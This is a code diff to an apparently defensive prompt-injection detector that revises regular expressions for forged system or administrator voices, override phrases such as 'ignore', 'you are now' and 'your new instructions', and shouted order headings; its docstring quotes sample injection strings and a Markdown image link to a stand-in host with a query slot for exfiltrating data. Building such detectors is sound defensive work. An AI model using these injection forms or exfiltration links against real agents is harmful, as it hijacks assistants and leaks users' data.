@@ -5,9 +5,10 @@ things that need no language to recognise (pure, deterministic, offline):
 
 - `forged_authority`: speak in a voice the text cannot have, the system's or an administrator's, to the
   model: "###(system_message) ...", "<INFORMATION> This is an important message from me ... to you",
-  "SYSTEM: you must ...", "ADMIN NOTICE: ... send ...", "*** NEW IMPORTANT INSTRUCTIONS ***". A ticket, a reply or
-  a fact never needs a chat template's role markers or a heading that announces orders, and a speaker's label
-  ("system:", "[admin]") counts only when what follows speaks to the model or orders what an agent does. The
+  "SYSTEM: you must ...", "ADMIN NOTICE: the assistant ...", "*** NEW IMPORTANT INSTRUCTIONS ***". A ticket, a
+  reply or a fact never needs a chat template's role markers, a speaker's label where a transcript puts one
+  ("system:", "[admin]" opening a line or a sentence) or a heading that announces orders; a notice in capitals
+  counts when what follows speaks to the model. The
   phrase rules of poisoning.py read the rest of the markers ("[INST]", "note to the AI", "if you are an AI").
 - `exfiltration_link`: carry data out in a link the reader's client fetches by itself: a Markdown image (or
   link) whose address has a query slot waiting to be filled ("![image](https://x.example/logo.png?q=[QUERY])",
@@ -35,26 +36,24 @@ _ROLE_MARKERS = re.compile(
     r"|<\s*/?\s*(?:INFORMATION|system[_-]?(?:message|prompt|instructions?|override)|admin[_-]?instructions?)\s*>",
     _I,
 )
-# A speaker's label or tag: "system:", "assistant:", "admin:", "[system]", "[admin]"; it counts when what
-# follows addresses the model or orders what an agent does ("Operating system: Windows 11" does neither).
+# A speaker's label or tag where a transcript puts one, at the start of a line or a sentence: "system:",
+# "assistant:", "admin:", "[system]", "[admin]" (a field's label, "Operating system: Windows 11", follows a word).
+# And a notice in capitals, as forged notices are written: "ADMIN NOTICE:", "IMPORTANT SYSTEM UPDATE", "SECURITY
+# ALERT", which counts when what follows it speaks to the model (a forwarded "SECURITY ALERT: ... If this wasn't
+# you, reset your password" does not).
 _SPEAKER = re.compile(
-    r"(?:^|\n|\s)(?:\[\s*(?:system|admin)\s*\]|(?:system|assistant|admin)\s*:\s*(?=[A-Za-z]))", _I
+    r"(?:^|\n|[.!?]\s+)\s*(?:\[\s*(?:system|admin)\s*\]|(?:system|assistant|admin)\s*:\s*(?=[A-Za-z]))"
+    r"|\[\s*(?:system|admin)\s*\]\s*:?\s*(?=[A-Za-z])",
+    _I,
 )
-# Written in capitals, as forged notices are: "ADMIN NOTICE:", "IMPORTANT SYSTEM UPDATE", "SECURITY ALERT"; a
-# notice counts on the same terms, or when an order to change an account or a record follows it.
 _NOTICE = re.compile(
     r"\b(?:IMPORTANT\s+)?(?:SYSTEM|ADMIN(?:ISTRATOR)?|DEVELOPER|SECURITY|COMPLIANCE)\s+"
     r"(?:MESSAGE|NOTICE|NOTE|UPDATE|OVERRIDE|INSTRUCTIONS?|DIRECTIVE|ALERT|COMMAND|PROMPT|PROTOCOL)\b"
 )
 _TO_THE_MODEL = re.compile(
-    r"\b(?:you|your|assistant|AI|model|agent|LLM|chatbot|bot)\b"
-    r"|\b(?:ignore|disregard|forget|override|send|forward|e-?mail|transfer|delete|remove|reply|respond|answer|"
-    r"output|print|include|reveal|share|post|upload|export|visit|open|click|run|execute|must|required)\b",
-    _I,
-)
-_RECORD_ORDER = re.compile(
-    r"\b(?:mark|set|change|grant|approve|cancel|close|update|move|add|confirm|verify|disable|enable|waive|"
-    r"refund|credit|unlock|reset)\b",
+    r"\b(?:assistant|AI|model|agent|LLM|chatbot|bot|GPT)\b|\b(?:ignore|disregard|forget|override)\b"
+    r"|\byou\s+(?:must|are\s+now|will\s+now|are\s+required|have\s+to|should\s+now)\b|\bfrom\s+now\s+on\b"
+    r"|\byour\s+(?:new\s+)?(?:instructions|rules|task|role|prompt)\b",
     _I,
 )
 # The user's own voice forged in a tool's output: "This is an important message from me, Emma, to you, GPT-4".
@@ -63,10 +62,11 @@ _MESSAGE_FROM_ME = re.compile(
     r"\bthis\s+is\s+an\s+important\s+message\s+from\s+me\b.{0,80}\bto\s+you\b", _I | re.DOTALL
 )
 # A heading between marks that announces new orders, shouted: "*** NEW IMPORTANT INSTRUCTIONS ***", "**NEW
-# INSTRUCTIONS**", "[NEW INSTRUCTIONS]" (a manual's "**New instructions for returns**" is a heading of its own).
+# INSTRUCTIONS**", "[NEW INSTRUCTIONS]" (a manual's "**New instructions for returns**" is a heading of its own,
+# and a ticket's "[NEW TASK]" a label).
 _ORDERS_HEADING = re.compile(
-    r"(?:\*{2,}|={2,}|\[)\s*(?:NEW\s+(?:IMPORTANT\s+)?|UPDATED\s+|IMPORTANT\s+(?:NEW\s+)?)"
-    r"(?:INSTRUCTIONS?|ORDERS|DIRECTIVES?|TASK)\s*(?:\*{2,}|={2,}|\])"
+    r"(?:\*{2,}|={2,}|\[)\s*(?:NEW\s+(?:IMPORTANT\s+)?|IMPORTANT\s+NEW\s+)(?:INSTRUCTIONS?|ORDERS|DIRECTIVES?)"
+    r"\s*(?:\*{2,}|={2,}|\])"
 )
 
 
@@ -74,11 +74,11 @@ def forged_authority(text: str) -> bool:
     """The text speaks to the model as its system or an administrator, or announces new orders."""
     if _ROLE_MARKERS.search(text) or _MESSAGE_FROM_ME.search(text) or _ORDERS_HEADING.search(text):
         return True
-    for pattern, follows in ((_SPEAKER, (_TO_THE_MODEL,)), (_NOTICE, (_TO_THE_MODEL, _RECORD_ORDER))):
-        for notice in pattern.finditer(text):
-            if any(f.search(text, notice.end(), notice.end() + 200) for f in follows):
-                return True
-    return False
+    if _SPEAKER.search(text):
+        return True
+    return any(
+        _TO_THE_MODEL.search(text, notice.end(), notice.end() + 200) for notice in _NOTICE.finditer(text)
+    )
 
 
 # A slot in a link's query, waiting for the data an agent is asked to put there: bracketed or a shell or
